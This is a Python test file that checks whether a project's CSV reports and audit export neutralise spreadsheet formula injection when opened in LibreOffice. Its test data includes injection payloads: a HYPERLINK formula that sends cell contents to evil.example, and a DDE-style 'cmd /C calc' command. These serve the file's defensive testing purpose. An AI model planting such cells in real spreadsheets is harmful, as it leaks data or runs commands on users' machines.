"""Every CSV the project writes opens in a real spreadsheet without running a formula.

report.csv and findings.csv come from the real batch CLI over an article whose sentences (and
file names) start with = + - @ tab and carriage return; the audit export carries a malicious
comment. LibreOffice (headless) converts each to CSV (what a user sees in the cells) and to
flat ODS (whether any cell became a formula). A raw, unneutralised control file shows that
LibreOffice does evaluate such cells, so the test cannot pass vacuously.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from argon2 import PasswordHasher

from annotator.outputs.reports import write_csv
from annotator.review.store import ReviewStore
from tests.conftest import ROOT

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)"
)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "=1+1")
EVALUATED = {"click", "1", "2"}  # what the payloads show once a spreadsheet has run them
ARTICLE = "\n\n".join(
    [
        f"{HYPERLINK} Baclofen is a muscle relaxant.",
        "+cmd|' /C calc'!A0 Baclofen may cause drowsiness.",
        "-2+3",
        "@SUM(1,1)",
        "\tBaclofen is a benzodiazepine.",
        "\rBaclofen is a peripheral muscle relaxant.",
        "=1+1",
    ]
)
# File names become the `document` cell: they carry the tab and CR starts as well.
FILE_NAMES = ("=1+1.txt", "-2+3.txt", "@SUM(1,1).txt", "+cmd.txt", "\tTab.txt", "\rCR.txt")
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76"


def _soffice(target: str, files: list[Path], outdir: Path, profile: Path) -> None:
    proc = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(outdir),
            *map(str, files),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr
    for f in files:
        assert (outdir / f"{f.stem}.{target.split(':')[0]}").exists(), proc.stdout + proc.stderr


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _cells(path: Path) -> list[str]:
    return [cell for row in _rows(path) for cell in row]


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> dict[str, Path]:
    """report.csv, findings.csv, audit.csv as the project writes them, plus a raw control."""
    work = tmp_path_factory.mktemp("inject")
    for name in FILE_NAMES:
        (work / name).write_text(ARTICLE, encoding="utf-8")
    out = work / "out"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "annotator.cli",
            "batch",
            "--out",
            str(out / "report.csv"),
            "--findings",
            str(out / "findings.csv"),
            "--notes",
            str(ROOT / "reference_notes"),
            "--",
            *FILE_NAMES,
        ],
        cwd=work,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert proc.returncode == 0, proc.stderr

    store = ReviewStore(
        work / "review.db", hasher=PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
    )
    store.add_user("-rita", "correct horse", "reviewer")  # usernames may start with - or @
    for i, payload in enumerate((*PAYLOADS, "\tTab comment", "\rCR comment")):
        store.decide(
            "=1+1.txt",
            "dochash",
            f"c{i:03d}",
            "texthash",
            "consistent",
            "override",
            "-rita",
            decided_verdict="inconsistent",
            comment=payload,
            fact_fingerprint="facts",
        )
    store.export_audit_csv(out / "audit.csv")
    store.close()

    with open(out / "raw_control.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["cell"], *([p] for p in PAYLOADS)])
    return {p.stem: p for p in out.glob("*.csv")}


@pytest.fixture(scope="module")
def opened(written, tmp_path_factory) -> dict[str, tuple[Path, Path]]:
    """Each CSV as LibreOffice shows it: (cells re-exported as CSV, flat ODS document)."""
    work = tmp_path_factory.mktemp("libreoffice")
    files = sorted(written.values())
    _soffice(CSV_FILTER, files, work / "csv", work / "profile")
    _soffice("fods", files, work / "fods", work / "profile")
    return {
        stem: (work / "csv" / f"{stem}.csv", work / "fods" / f"{stem}.fods") for stem in written
    }


@needs_soffice
def test_control_shows_libreoffice_evaluates_raw_formulas(opened):
    as_csv, fods = opened["raw_control"]
    assert "table:formula=" in fods.read_text(encoding="utf-8")
    assert {"click", "2"} <= set(_cells(as_csv))


@needs_soffice
@pytest.mark.parametrize("stem", ["report", "findings", "audit"])
def test_no_cell_becomes_a_formula(opened, stem):
    _, fods = opened[stem]
    assert "table:formula=" not in fods.read_text(encoding="utf-8")


@needs_soffice
@pytest.mark.parametrize("stem", ["report", "findings", "audit"])
def test_injected_cells_show_their_text_unevaluated(written, opened, stem):
    ours, shown = _rows(written[stem]), _rows(opened[stem][0])
    assert [len(r) for r in shown] == [len(r) for r in ours]
    neutralised = [
        (i, j) for i, row in enumerate(ours) for j, c in enumerate(row) if c.startswith("'")
    ]
    assert neutralised, f"{stem}.csv has no formula-like cell to test"
    for i, j in neutralised:  # shown as written: a quote, then the readable text, never "1"
        assert shown[i][j] == ours[i][j].replace("\r", "\n"), (i, j)
        assert shown[i][j] not in EVALUATED


def test_every_formula_start_is_covered(written):
    cells = {c for stem in ("report", "findings", "audit") for c in _cells(written[stem])}
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert any(c.startswith("'" + start) for c in cells), f"no cell starting {start!r}"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_readable_text_survives_neutralising(written):
    report = _cells(written["report"])
    assert f"'{HYPERLINK} Baclofen is a muscle relaxant." in report
    with open(written["audit"], newline="", encoding="utf-8") as fh:
        audit = [r for r in csv.DictReader(fh) if r["kind"] != "chain_head"]  # heads at the end
    assert [r["comment"] for r in audit][: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert {r["reviewer"] for r in audit} == {"'-rita"}


@pytest.mark.parametrize("cell", ["'\rCR.txt", "a\rb", "x\r\ny", "\r"])
def test_a_carriage_return_in_a_cell_stays_inside_its_row(cell):
    """Regression: Python 3.11's csv left a bare CR unquoted (lineterminator "\\n"), so a file
    name holding one split its report row in two in LibreOffice and in csv.reader."""
    buf = io.StringIO()
    write_csv(buf, ("document", "n"), [{"document": cell, "n": 1}, {"document": "ok", "n": 2}])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows[1:] == [[("'" if cell.startswith("\r") else "") + cell, "1"], ["ok", "2"]]
